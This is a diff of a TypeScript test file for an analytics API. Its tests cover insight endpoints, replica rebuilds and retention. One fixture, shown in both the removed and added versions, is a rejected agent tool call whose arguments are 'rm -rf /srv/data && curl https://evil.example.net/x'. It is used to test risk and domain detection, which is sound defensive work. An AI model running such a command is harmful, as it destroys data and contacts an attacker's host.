@@ -1,4 +1,5 @@
 import assert from "node:assert/strict";
+import { engineTest } from "./_harness.ts";
 import { DuckDBInstance } from "@duckdb/node-api";
 import { INSIGHT_NAMES } from "../src/analytics/mod.ts";
 import { Replica } from "../src/analytics/replica.ts";
@@ -10,7 +11,7 @@ import {
   generateTelemetry,
   type InsightsEnv,
   type InsightsOrg,
-  readRawRows,
+  readStoredRows,
   referenceBucket,
   referenceInsight,
   startInsightsEnv,
@@ -48,7 +49,7 @@ function toolCall(
 
 /** Every insight of one org equals the reference over the rows now stored. */
 async function assertMatchesReference(env: InsightsEnv, org: InsightsOrg, query = "") {
-  const raw = readRawRows(env.dataDir.telemetryPath);
+  const raw = await readStoredRows(env);
   for (const name of INSIGHT_NAMES) {
     const { status, body } = await env.get(`/v1/insights/${name}${query}`, org.apiKey);
     assert.equal(status, 200, JSON.stringify(body));
@@ -68,169 +69,186 @@ async function loadRandom(
   if (options.laterResults ?? true) await env.ingest(org, data.laterResults);
 }
 
-Deno.test("GET /v1/insights/* validates window and granularity with the spec's messages", async (t) => {
-  await using env = await startInsightsEnv();
-  const org = await env.createOrg("Acme");
-  const badWindow = (value: string) =>
-    `invalid window: ${JSON.stringify(value)} (allowed: 7d, 30d, 90d)`;
-  const badGranularity = (value: string) =>
-    `invalid granularity: ${JSON.stringify(value)} (allowed: daily, weekly)`;
-  const pairing =
-    "granularity not allowed for this window: weekly is only valid for 30d/90d windows";
-  const scenarios: { query: string; message: string }[] = [
-    { query: "window=14d", message: badWindow("14d") },
-    { query: "window=", message: badWindow("") },
-    { query: "window=7", message: badWindow("7") },
-    { query: "window=%207d", message: badWindow(" 7d") },
-    { query: "granularity=hourly", message: badGranularity("hourly") },
-    { query: "granularity=", message: badGranularity("") },
-    { query: "window=30d&granularity=Monthly", message: badGranularity("Monthly") },
-    { query: "window=1y&granularity=hourly", message: badWindow("1y") },
-    { query: "granularity=weekly", message: pairing },
-    { query: "window=7d&granularity=weekly", message: pairing },
-    { query: "window=7D&granularity=WEEKLY", message: pairing },
-  ];
-  for (const name of INSIGHT_NAMES) {
-    await t.step(name, async () => {
-      for (const { query, message } of scenarios) {
-        const { status, body } = await env.get(`/v1/insights/${name}?${query}`, org.apiKey);
-        assert.equal(status, 400, `${name}?${query}`);
-        assert.deepEqual(body, { error: { code: "invalid_request", message } }, `${name}?${query}`);
+engineTest(
+  "GET /v1/insights/* validates window and granularity with the spec's messages",
+  async (t) => {
+    await using env = await startInsightsEnv();
+    const org = await env.createOrg("Acme");
+    const badWindow = (value: string) =>
+      `invalid window: ${JSON.stringify(value)} (allowed: 7d, 30d, 90d)`;
+    const badGranularity = (value: string) =>
+      `invalid granularity: ${JSON.stringify(value)} (allowed: daily, weekly)`;
+    const pairing =
+      "granularity not allowed for this window: weekly is only valid for 30d/90d windows";
+    const scenarios: { query: string; message: string }[] = [
+      { query: "window=14d", message: badWindow("14d") },
+      { query: "window=", message: badWindow("") },
+      { query: "window=7", message: badWindow("7") },
+      { query: "window=%207d", message: badWindow(" 7d") },
+      { query: "granularity=hourly", message: badGranularity("hourly") },
+      { query: "granularity=", message: badGranularity("") },
+      { query: "window=30d&granularity=Monthly", message: badGranularity("Monthly") },
+      { query: "window=1y&granularity=hourly", message: badWindow("1y") },
+      { query: "granularity=weekly", message: pairing },
+      { query: "window=7d&granularity=weekly", message: pairing },
+      { query: "window=7D&granularity=WEEKLY", message: pairing },
+    ];
+    for (const name of INSIGHT_NAMES) {
+      await t.step(name, async () => {
+        for (const { query, message } of scenarios) {
+          const { status, body } = await env.get(`/v1/insights/${name}?${query}`, org.apiKey);
+          assert.equal(status, 400, `${name}?${query}`);
+          assert.deepEqual(
+            body,
+            { error: { code: "invalid_request", message } },
+            `${name}?${query}`,
+          );
+        }
+      });
+    }
+    await t.step("values are case-insensitive and reported in canonical lower case", async () => {
+      for (
+        const [query, window, granularity] of [
+          ["", "7d", "daily"],
+          ["window=30D", "30d", "daily"],
+          ["window=90d&granularity=Weekly", "90d", "weekly"],
+          ["window=30d&granularity=WEEKLY", "30d", "weekly"],
+          ["window=7d&granularity=DAILY", "7d", "daily"],
+          ["window=90D&window=bogus", "90d", "daily"],
+        ]
+      ) {
+        for (const name of INSIGHT_NAMES) {
+          const { status, body } = await env.get(`/v1/insights/${name}?${query}`, org.apiKey);
+          assert.equal(status, 200, `${name}?${query}: ${JSON.stringify(body)}`);
+          assert.equal(body.window.window, window);
+          assert.equal(body.window.granularity, granularity);
+        }
       }
     });
-  }
-  await t.step("values are case-insensitive and reported in canonical lower case", async () => {
-    for (
-      const [query, window, granularity] of [
-        ["", "7d", "daily"],
-        ["window=30D", "30d", "daily"],
-        ["window=90d&granularity=Weekly", "90d", "weekly"],
-        ["window=30d&granularity=WEEKLY", "30d", "weekly"],
-        ["window=7d&granularity=DAILY", "7d", "daily"],
-        ["window=90D&window=bogus", "90d", "daily"],
-      ]
-    ) {
-      for (const name of INSIGHT_NAMES) {
-        const { status, body } = await env.get(`/v1/insights/${name}?${query}`, org.apiKey);
-        assert.equal(status, 200, `${name}?${query}: ${JSON.stringify(body)}`);
-        assert.equal(body.window.window, window);
-        assert.equal(body.window.granularity, granularity);
+    await t.step("the window ends at the request time and starts N days before it", async () => {
+      for (const [window, days] of [["7d", 7], ["30d", 30], ["90d", 90]] as const) {
+        const before = Date.now();
+        const { body } = await env.get(`/v1/insights/activity?window=${window}`, org.apiKey);
+        const after = Date.now();
+        const end = Date.parse(body.window.end);
+        assert.ok(end >= before && end <= after);
+        assert.equal(Date.parse(body.window.start), end - days * DAY);
+        assert.match(body.window.start, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
+        assert.match(body.window.end, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
       }
-    }
-  });
-  await t.step("the window ends at the request time and starts N days before it", async () => {
-    for (const [window, days] of [["7d", 7], ["30d", 30], ["90d", 90]] as const) {
-      const before = Date.now();
-      const { body } = await env.get(`/v1/insights/activity?window=${window}`, org.apiKey);
-      const after = Date.now();
-      const end = Date.parse(body.window.end);
-      assert.ok(end >= before && end <= after);
-      assert.equal(Date.parse(body.window.start), end - days * DAY);
-      assert.match(body.window.start, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
-      assert.match(body.window.end, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
-    }
-  });
-  await t.step("authentication comes before parameters; unknown paths and methods", async () => {
-    const response = await fetch(`${env.url}/v1/insights/activity?window=bad`);
-    assert.equal(response.status, 401);
-    await response.body?.cancel();
-    const unknown = await env.get("/v1/insights/nope", org.apiKey);
-    assert.equal(unknown.status, 404);
-    assert.equal(unknown.body, "404 page not found");
-    const post = await fetch(`${env.url}/v1/insights/cost`, {
-      method: "POST",
-      headers: { authorization: `Bearer ${org.apiKey}` },
     });
-    assert.equal(post.status, 405);
-    await post.body?.cancel();
-  });
-});
+    await t.step("authentication comes before parameters; unknown paths and methods", async () => {
+      const response = await fetch(`${env.url}/v1/insights/activity?window=bad`);
+      assert.equal(response.status, 401);
+      await response.body?.cancel();
+      const unknown = await env.get("/v1/insights/nope", org.apiKey);
+      assert.equal(unknown.status, 404);
+      assert.equal(unknown.body, "404 page not found");
+      const post = await fetch(`${env.url}/v1/insights/cost`, {
+        method: "POST",
+        headers: { authorization: `Bearer ${org.apiKey}` },
+      });
+      assert.equal(post.status, 405);
+      await post.body?.cancel();
+    });
+  },
+);
 
-Deno.test("GET /v1/insights/* on an organization without telemetry gives zeros and empty lists", async () => {
-  await using env = await startInsightsEnv();
-  const empty = await env.createOrg("Empty");
-  // Another organization's data must not leak into the empty one.
-  await loadRandom(env, await env.createOrg("Busy"), 7, 60);
-  const expected: Record<string, { summary: unknown; series: unknown; breakdown: unknown }> = {
-    "activity": {
-      summary: { "total_calls": 0, "error_count": 0, "session_count": 0 },
-      series: [],
-      breakdown: null,
-    },
-    "top-tools": { summary: { "total_calls": 0, "unique_tools": 0 }, series: null, breakdown: [] },
-    "outliers": {
-      summary: { "p95_call_count": 0, "outlier_count": 0, "session_count": 0 },
-      series: null,
-      breakdown: [],
-    },
-    "cost": {
-      summary: {
-        "input_tokens": 0,
-        "output_tokens": 0,
-        "cache_read_tokens": 0,
-        "cache_creation_tokens": 0,
-        "cost_usd": 0,
-        "cost_available": false,
-        "call_count": 0,
+engineTest(
+  "GET /v1/insights/* on an organization without telemetry gives zeros and empty lists",
+  async () => {
+    await using env = await startInsightsEnv();
+    const empty = await env.createOrg("Empty");
+    // Another organization's data must not leak into the empty one.
+    await loadRandom(env, await env.createOrg("Busy"), 7, 60);
+    const expected: Record<string, { summary: unknown; series: unknown; breakdown: unknown }> = {
+      "activity": {
+        summary: { "total_calls": 0, "error_count": 0, "session_count": 0 },
+        series: [],
+        breakdown: null,
       },
-      series: [],
-      breakdown: [],
-    },
-    "risk": {
-      summary: { "total_flags": 0, "sessions_flagged": 0, "distinct_flag_kinds": 0 },
-      series: [],
-      breakdown: [],
-    },
-    "domains": {
-      summary: { "total_hits": 0, "unique_domains": 0, "sessions": 0 },
-      series: [],
-      breakdown: [],
-    },
-  };
-  for (const name of INSIGHT_NAMES) {
-    for (const query of ["", "?window=90d&granularity=weekly"]) {
-      const { status, body } = await env.get(`/v1/insights/${name}${query}`, empty.apiKey);
-      assert.equal(status, 200);
-      assert.deepEqual(Object.keys(body), ["window", "summary", "series", "breakdown"]);
-      const { window: _window, ...rest } = body;
-      assert.deepEqual(rest, expected[name], name);
-    }
-  }
-});
-
-Deno.test("GET /v1/insights/* has series and breakdown null exactly where the spec says", async () => {
-  await using env = await startInsightsEnv();
-  const org = await env.createOrg("Acme");
-  await loadRandom(env, org, 3, 80);
-  const shapes: Record<string, [boolean, boolean]> = {
-    "activity": [true, false],
-    "top-tools": [false, true],
-    "outliers": [false, true],
-    "cost": [true, true],
-    "risk": [true, true],
-    "domains": [true, true],
-  };
-  for (const name of INSIGHT_NAMES) {
-    const { body } = await env.get(`/v1/insights/${name}?window=90d`, org.apiKey);
-    const [series, breakdown] = shapes[name]!;
-    assert.equal(Array.isArray(body.series), series, `${name} series`);
-    if (!series) assert.equal(body.series, null);
-    assert.equal(Array.isArray(body.breakdown), breakdown, `${name} breakdown`);
-    if (!breakdown) assert.equal(body.breakdown, null);
-    if (series) assert.ok(body.series.length > 0, `${name} has points`);
-    for (const point of body.series ?? []) {
-      for (const [key, value] of Object.entries(point)) {
-        if (key === "bucket" || key === "flag") assert.equal(typeof value, "string");
-        else assert.equal(typeof value, "number", `${name} series ${key}`);
+      "top-tools": {
+        summary: { "total_calls": 0, "unique_tools": 0 },
+        series: null,
+        breakdown: [],
+      },
+      "outliers": {
+        summary: { "p95_call_count": 0, "outlier_count": 0, "session_count": 0 },
+        series: null,
+        breakdown: [],
+      },
+      "cost": {
+        summary: {
+          "input_tokens": 0,
+          "output_tokens": 0,
+          "cache_read_tokens": 0,
+          "cache_creation_tokens": 0,
+          "cost_usd": 0,
+          "cost_available": false,
+          "call_count": 0,
+        },
+        series: [],
+        breakdown: [],
+      },
+      "risk": {
+        summary: { "total_flags": 0, "sessions_flagged": 0, "distinct_flag_kinds": 0 },
+        series: [],
+        breakdown: [],
+      },
+      "domains": {
+        summary: { "total_hits": 0, "unique_domains": 0, "sessions": 0 },
+        series: [],
+        breakdown: [],
+      },
+    };
+    for (const name of INSIGHT_NAMES) {
+      for (const query of ["", "?window=90d&granularity=weekly"]) {
+        const { status, body } = await env.get(`/v1/insights/${name}${query}`, empty.apiKey);
+        assert.equal(status, 200);
+        assert.deepEqual(Object.keys(body), ["window", "summary", "series", "breakdown"]);
+        const { window: _window, ...rest } = body;
+        assert.deepEqual(rest, expected[name], name);
       }
     }
-  }
-  const { body } = await env.get("/v1/insights/cost?window=90d", org.apiKey);
-  assert.equal(typeof body.summary.input_tokens, "number", "integers are JSON numbers");
-  assert.equal(typeof body.summary.cost_available, "boolean");
-});
+  },
+);
 
-Deno.test("GET /v1/insights/activity buckets weeks from Sunday 00:00 UTC", async () => {
+engineTest(
+  "GET /v1/insights/* has series and breakdown null exactly where the spec says",
+  async () => {
+    await using env = await startInsightsEnv();
+    const org = await env.createOrg("Acme");
+    await loadRandom(env, org, 3, 80);
+    const shapes: Record<string, [boolean, boolean]> = {
+      "activity": [true, false],
+      "top-tools": [false, true],
+      "outliers": [false, true],
+      "cost": [true, true],
+      "risk": [true, true],
+      "domains": [true, true],
+    };
+    for (const name of INSIGHT_NAMES) {
+      const { body } = await env.get(`/v1/insights/${name}?window=90d`, org.apiKey);
+      const [series, breakdown] = shapes[name]!;
+      assert.equal(Array.isArray(body.series), series, `${name} series`);
+      if (!series) assert.equal(body.series, null);
+      assert.equal(Array.isArray(body.breakdown), breakdown, `${name} breakdown`);
+      if (!breakdown) assert.equal(body.breakdown, null);
+      if (series) assert.ok(body.series.length > 0, `${name} has points`);
+      for (const point of body.series ?? []) {
+        for (const [key, value] of Object.entries(point)) {
+          if (key === "bucket" || key === "flag") assert.equal(typeof value, "string");
+          else assert.equal(typeof value, "number", `${name} series ${key}`);
+        }
+      }
+    }
+    const { body } = await env.get("/v1/insights/cost?window=90d", org.apiKey);
+    assert.equal(typeof body.summary.input_tokens, "number", "integers are JSON numbers");
+    assert.equal(typeof body.summary.cost_available, "boolean");
+  },
+);
+
+engineTest("GET /v1/insights/activity buckets weeks from Sunday 00:00 UTC", async () => {
   await using env = await startInsightsEnv();
   const org = await env.createOrg("Acme");
   const now = Date.now();
@@ -257,28 +275,31 @@ Deno.test("GET /v1/insights/activity buckets weeks from Sunday 00:00 UTC", async
   ]);
 });
 
-Deno.test("GET /v1/insights/activity labels the first bucket with its start, before window.start", async () => {
-  await using env = await startInsightsEnv();
-  const org = await env.createOrg("Acme");
-  const ts = Date.now() - 30 * DAY + 60_000;
-  await env.ingest(org, [toolCall("early", "early-1", ts)]);
-  for (const granularity of ["daily", "weekly"] as const) {
-    const { body } = await env.get(
-      `/v1/insights/activity?window=30d&granularity=${granularity}`,
-      org.apiKey,
-    );
-    const start = Date.parse(body.window.start);
-    assert.ok(ts >= start, "the call is inside the window");
-    assert.deepEqual(body.series, [{
-      bucket: iso(referenceBucket(ts, granularity)),
-      calls: 1,
-      errors: 0,
-    }]);
-    if (granularity === "weekly") assert.ok(Date.parse(body.series[0].bucket) < start);
-  }
-});
+engineTest(
+  "GET /v1/insights/activity labels the first bucket with its start, before window.start",
+  async () => {
+    await using env = await startInsightsEnv();
+    const org = await env.createOrg("Acme");
+    const ts = Date.now() - 30 * DAY + 60_000;
+    await env.ingest(org, [toolCall("early", "early-1", ts)]);
+    for (const granularity of ["daily", "weekly"] as const) {
+      const { body } = await env.get(
+        `/v1/insights/activity?window=30d&granularity=${granularity}`,
+        org.apiKey,
+      );
+      const start = Date.parse(body.window.start);
+      assert.ok(ts >= start, "the call is inside the window");
+      assert.deepEqual(body.series, [{
+        bucket: iso(referenceBucket(ts, granularity)),
+        calls: 1,
+        errors: 0,
+      }]);
+      if (granularity === "weekly") assert.ok(Date.parse(body.series[0].bucket) < start);
+    }
+  },
+);
 
-Deno.test("GET /v1/insights/* includes telemetry ingested just before the request", async () => {
+engineTest("GET /v1/insights/* includes telemetry ingested just before the request", async () => {
   await using env = await startInsightsEnv();
   const org = await env.createOrg("Acme");
   const other = await env.createOrg("Other");
@@ -299,7 +320,7 @@ Deno.test("GET /v1/insights/* includes telemetry ingested just before the reques
   await assertMatchesReference(env, org, "?window=90d&granularity=weekly");
 });
 
-Deno.test("GET /v1/insights/top-tools averages durations without rejected calls", async () => {
+engineTest("GET /v1/insights/top-tools averages durations without rejected calls", async () => {
   await using env = await startInsightsEnv();
   const org = await env.createOrg("Acme");
   const now = Date.now() - 60_000;
@@ -323,134 +344,146 @@ Deno.test("GET /v1/insights/top-tools averages durations without rejected calls"
   ]);
 });
 
-Deno.test("GET /v1/insights/risk and domains drop a reject's detections when its result replaces it", async () => {
-  await using env = await startInsightsEnv();
-  const org = await env.createOrg("Acme");
-  const now = Date.now() - 60_000;
-  const args = JSON.stringify({ command: "rm -rf /srv/data && curl https://evil.example.net/x" });
-  const decision: TelemetryEvent = {
-    kind: "decision",
-    sessionId: "s1",
-    identity: "call-1",
-    timeMs: now,
-    agentSystem: "claude-code",
-    agentVersion: "2.1.0",
-    toolName: "Bash",
-    toolType: "builtin",
-    category: "code_exec",
-    toolCallId: "call-1",
-    decision: "reject",
-    rejects: true,
-    arguments: args,
-    source: "otlp_logs",
-  };
-  await env.ingest(org, [decision]);
-  const risky = await env.get("/v1/insights/risk", org.apiKey);
-  const reached = await env.get("/v1/insights/domains", org.apiKey);
-  assert.ok(risky.body.summary.total_flags >= 1, JSON.stringify(risky.body));
-  assert.equal(reached.body.summary.total_hits, 1);
-  assert.deepEqual(reached.body.breakdown, [
-    { domain: "evil.example.net", scheme: "https", hits: 1, sessions: 1 },
-  ]);
-  // The result arrives: same agent call id, harmless arguments.
-  await env.ingest(org, [toolCall("s1", "call-1", now + 500, { arguments: '{"command":"ls"}' })]);
-  const calm = await env.get("/v1/insights/risk", org.apiKey);
-  const nowhere = await env.get("/v1/insights/domains", org.apiKey);
-  assert.equal(calm.body.summary.total_flags, 0);
-  assert.deepEqual(calm.body.breakdown, []);
-  assert.equal(nowhere.body.summary.total_hits, 0);
-  const activity = await env.get("/v1/insights/activity", org.apiKey);
-  assert.equal(activity.body.summary.total_calls, 1, "the call is stored once");
-});
+engineTest(
+  "GET /v1/insights/risk and domains drop a reject's detections when its result replaces it",
+  async () => {
+    await using env = await startInsightsEnv();
+    const org = await env.createOrg("Acme");
+    const now = Date.now() - 60_000;
+    const args = JSON.stringify({ command: "rm -rf /srv/data && curl https://evil.example.net/x" });
+    const decision: TelemetryEvent = {
+      kind: "decision",
+      sessionId: "s1",
+      identity: "call-1",
+      timeMs: now,
+      agentSystem: "claude-code",
+      agentVersion: "2.1.0",
+      toolName: "Bash",
+      toolType: "builtin",
+      category: "code_exec",
+      toolCallId: "call-1",
+      decision: "reject",
+      rejects: true,
+      arguments: args,
+      source: "otlp_logs",
+    };
+    await env.ingest(org, [decision]);
+    const risky = await env.get("/v1/insights/risk", org.apiKey);
+    const reached = await env.get("/v1/insights/domains", org.apiKey);
+    assert.ok(risky.body.summary.total_flags >= 1, JSON.stringify(risky.body));
+    assert.equal(reached.body.summary.total_hits, 1);
+    assert.deepEqual(reached.body.breakdown, [
+      { domain: "evil.example.net", scheme: "https", hits: 1, sessions: 1 },
+    ]);
+    // The result arrives: same agent call id, harmless arguments.
+    await env.ingest(org, [toolCall("s1", "call-1", now + 500, { arguments: '{"command":"ls"}' })]);
+    const calm = await env.get("/v1/insights/risk", org.apiKey);
+    const nowhere = await env.get("/v1/insights/domains", org.apiKey);
+    assert.equal(calm.body.summary.total_flags, 0);
+    assert.deepEqual(calm.body.breakdown, []);
+    assert.equal(nowhere.body.summary.total_hits, 0);
+    const activity = await env.get("/v1/insights/activity", org.apiKey);
+    assert.equal(activity.body.summary.total_calls, 1, "the call is stored once");
+  },
+);
 
-Deno.test("GET /v1/insights/* answers concurrent requests while telemetry is ingested", async () => {
-  await using env = await startInsightsEnv();
-  const org = await env.createOrg("Acme");
-  const data = generateTelemetry({ seed: 21, sessions: 400, days: 100, now: Date.now() });
-  await env.ingest(org, data.batches[0]!);
-  const requests: Promise<{ status: number }>[] = [];
-  for (const [i, batch] of data.batches.slice(1).entries()) {
-    await env.ingest(org, batch);
-    for (const name of INSIGHT_NAMES) {
-      requests.push(env.get(`/v1/insights/${name}?window=${i % 2 ? "90d" : "30d"}`, org.apiKey));
+engineTest(
+  "GET /v1/insights/* answers concurrent requests while telemetry is ingested",
+  async () => {
+    await using env = await startInsightsEnv();
+    const org = await env.createOrg("Acme");
+    const data = generateTelemetry({ seed: 21, sessions: 400, days: 100, now: Date.now() });
+    await env.ingest(org, data.batches[0]!);
+    const requests: Promise<{ status: number }>[] = [];
+    for (const [i, batch] of data.batches.slice(1).entries()) {
+      await env.ingest(org, batch);
+      for (const name of INSIGHT_NAMES) {
+        requests.push(env.get(`/v1/insights/${name}?window=${i % 2 ? "90d" : "30d"}`, org.apiKey));
+      }
+      await new Promise((resolve) => setTimeout(resolve, 1));
     }
-    await new Promise((resolve) => setTimeout(resolve, 1));
-  }
-  await env.ingest(org, data.laterResults);
-  const responses = await Promise.all(requests);
-  assert.ok(responses.length >= 12);
-  assert.deepEqual(responses.filter((r) => r.status !== 200), []);
-  await assertMatchesReference(env, org, "?window=90d");
-});
-
-Deno.test("openAnalytics returns before the initial build, which insight requests wait for", async () => {
-  await using env = await startInsightsEnv();
-  const org = await env.createOrg("Acme");
-  await loadRandom(env, org, 5, 300);
-  await env.analytics.ready;
-  let built = false;
-  const analytics = await env.reopenAnalytics({
-    beforeOpen: () => Deno.remove(dataPaths(env.dir).analytics),
-  });
-  analytics.ready.then(() => built = true);
-  assert.equal(built, false, "the build runs in the background");
-  const sessions = await env.get("/v1/sessions?limit=1", org.apiKey);
-  assert.equal(sessions.status, 200);
-  await assertMatchesReference(env, org, "?window=90d");
-  assert.equal(built, true);
-  assert.equal(analytics.lastCatchUp?.fromSeq, 0, "rebuilt from scratch");
-});
-
-Deno.test("the analytics replica is rebuilt when deleted, corrupt or of an older schema", async (t) => {
-  await using env = await startInsightsEnv();
-  const org = await env.createOrg("Acme");
-  await loadRandom(env, org, 9, 120);
-  const path = dataPaths(env.dir).analytics;
-  await assertMatchesReference(env, org, "?window=90d");
-
-  await t.step("an intact replica is reused", async () => {
-    const analytics = await env.reopenAnalytics();
-    await analytics.ready;
-    assert.equal(analytics.lastCatchUp, null, "nothing to copy");
+    await env.ingest(org, data.laterResults);
+    const responses = await Promise.all(requests);
+    assert.ok(responses.length >= 12);
+    assert.deepEqual(responses.filter((r) => r.status !== 200), []);
     await assertMatchesReference(env, org, "?window=90d");
-  });
-  await t.step("deleted", async () => {
-    const analytics = await env.reopenAnalytics({ beforeOpen: () => Deno.remove(path) });
-    await analytics.ready;
-    assert.equal(analytics.lastCatchUp?.fromSeq, 0);
-    await assertMatchesReference(env, org, "?window=90d");
-  });
-  await t.step("garbage", async () => {
+  },
+);
+
+engineTest(
+  "openAnalytics returns before the initial build, which insight requests wait for",
+  async () => {
+    await using env = await startInsightsEnv();
+    const org = await env.createOrg("Acme");
+    await loadRandom(env, org, 5, 300);
+    await env.analytics.ready;
+    let built = false;
     const analytics = await env.reopenAnalytics({
-      beforeOpen: () => Deno.writeTextFile(path, "this is not a DuckDB file\n".repeat(500)),
+      beforeOpen: () => Deno.remove(dataPaths(env.dir).analytics),
     });
-    await analytics.ready;
-    assert.equal(analytics.lastCatchUp?.fromSeq, 0);
+    analytics.ready.then(() => built = true);
+    assert.equal(built, false, "the build runs in the background");
+    const sessions = await env.get("/v1/sessions?limit=1", org.apiKey);
+    assert.equal(sessions.status, 200);
     await assertMatchesReference(env, org, "?window=90d");
-  });
-  await t.step("older schema version", async () => {
-    const analytics = await env.reopenAnalytics({
-      beforeOpen: async () => {
-        const instance = await DuckDBInstance.create(path);
-        const connection = await instance.connect();
-        await connection.run("UPDATE meta SET value = 0 WHERE key = 'schema_version'");
-        connection.closeSync();
-        instance.closeSync();
-      },
+    assert.equal(built, true);
+    assert.equal(analytics.lastCatchUp?.fromSeq, 0, "rebuilt from scratch");
+  },
+);
+
+engineTest(
+  "the analytics replica is rebuilt when deleted, corrupt or of an older schema",
+  async (t) => {
+    await using env = await startInsightsEnv();
+    const org = await env.createOrg("Acme");
+    await loadRandom(env, org, 9, 120);
+    const path = dataPaths(env.dir).analytics;
+    await assertMatchesReference(env, org, "?window=90d");
+
+    await t.step("an intact replica is reused", async () => {
+      const analytics = await env.reopenAnalytics();
+      await analytics.ready;
+      assert.equal(analytics.lastCatchUp, null, "nothing to copy");
+      await assertMatchesReference(env, org, "?window=90d");
     });
-    await analytics.ready;
-    assert.equal(analytics.lastCatchUp?.fromSeq, 0);
-    await assertMatchesReference(env, org, "?window=90d");
-  });
-  await t.step("a replica behind the store catches up from its last seq", async () => {
-    await env.analytics.close();
-    await loadRandom(env, org, 10, 30);
-    const analytics = await env.reopenAnalytics();
-    await analytics.ready;
-    assert.ok((analytics.lastCatchUp?.fromSeq ?? 0) > 0, "incremental, not rebuilt");
-    await assertMatchesReference(env, org, "?window=90d");
-  });
-});
+    await t.step("deleted", async () => {
+      const analytics = await env.reopenAnalytics({ beforeOpen: () => Deno.remove(path) });
+      await analytics.ready;
+      assert.equal(analytics.lastCatchUp?.fromSeq, 0);
+      await assertMatchesReference(env, org, "?window=90d");
+    });
+    await t.step("garbage", async () => {
+      const analytics = await env.reopenAnalytics({
+        beforeOpen: () => Deno.writeTextFile(path, "this is not a DuckDB file\n".repeat(500)),
+      });
+      await analytics.ready;
+      assert.equal(analytics.lastCatchUp?.fromSeq, 0);
+      await assertMatchesReference(env, org, "?window=90d");
+    });
+    await t.step("older schema version", async () => {
+      const analytics = await env.reopenAnalytics({
+        beforeOpen: async () => {
+          const instance = await DuckDBInstance.create(path);
+          const connection = await instance.connect();
+          await connection.run("UPDATE meta SET value = 0 WHERE key = 'schema_version'");
+          connection.closeSync();
+          instance.closeSync();
+        },
+      });
+      await analytics.ready;
+      assert.equal(analytics.lastCatchUp?.fromSeq, 0);
+      await assertMatchesReference(env, org, "?window=90d");
+    });
+    await t.step("a replica behind the store catches up from its last seq", async () => {
+      await env.analytics.close();
+      await loadRandom(env, org, 10, 30);
+      const analytics = await env.reopenAnalytics();
+      await analytics.ready;
+      assert.ok((analytics.lastCatchUp?.fromSeq ?? 0) > 0, "incremental, not rebuilt");
+      await assertMatchesReference(env, org, "?window=90d");
+    });
+  },
+);
 
 Deno.test("a replica held by another process is neither deleted nor rebuilt", async () => {
   await using env = await startInsightsEnv();
@@ -486,13 +519,13 @@ Deno.test("a replica held by another process is neither deleted nor rebuilt", as
   assert.equal(env.analytics.lastCatchUp?.fromSeq, 0, "still the replica built at start");
 });
 
-Deno.test("GET /v1/insights/* forget what retention deleted", async () => {
+engineTest("GET /v1/insights/* forget what retention deleted", async () => {
   await using env = await startInsightsEnv({ retentionDays: 45 });
   const org = await env.createOrg("Acme");
   await loadRandom(env, org, 17, 200);
   const before = await env.get("/v1/insights/activity?window=90d", org.apiKey);
   await assertMatchesReference(env, org, "?window=90d&granularity=weekly");
-  const removed = await env.dataDir.writer!.runRetention();
+  const removed = await env.stores.writer!.runRetention();
   assert.ok(removed.toolCalls > 0 && removed.modelCalls > 0, JSON.stringify(removed));
   const after = await env.get("/v1/insights/activity?window=90d", org.apiKey);
   assert.ok(after.body.summary.total_calls < before.body.summary.total_calls);
@@ -504,7 +537,7 @@ Deno.test("GET /v1/insights/* forget what retention deleted", async () => {
   await assertMatchesReference(env, org, "?window=90d&granularity=weekly");
 });
 
-Deno.test("concurrent catch-ups share one run, and one follow-up run", async () => {
+engineTest("concurrent catch-ups share one run, and one follow-up run", async () => {
   await using env = await startInsightsEnv();
   const org = await env.createOrg("Acme");
   await loadRandom(env, org, 19, 100);
@@ -516,7 +549,7 @@ Deno.test("concurrent catch-ups share one run, and one follow-up run", async () 
   await assertMatchesReference(env, org, "?window=90d");
 });
 
-Deno.test("GET /v1/insights/* past the query time limit is 500 internal", async () => {
+engineTest("GET /v1/insights/* past the query time limit is 500 internal", async () => {
   await using env = await startInsightsEnv();
   const org = await env.createOrg("Acme");
   await loadRandom(env, org, 13, 3000, { laterResults: false });
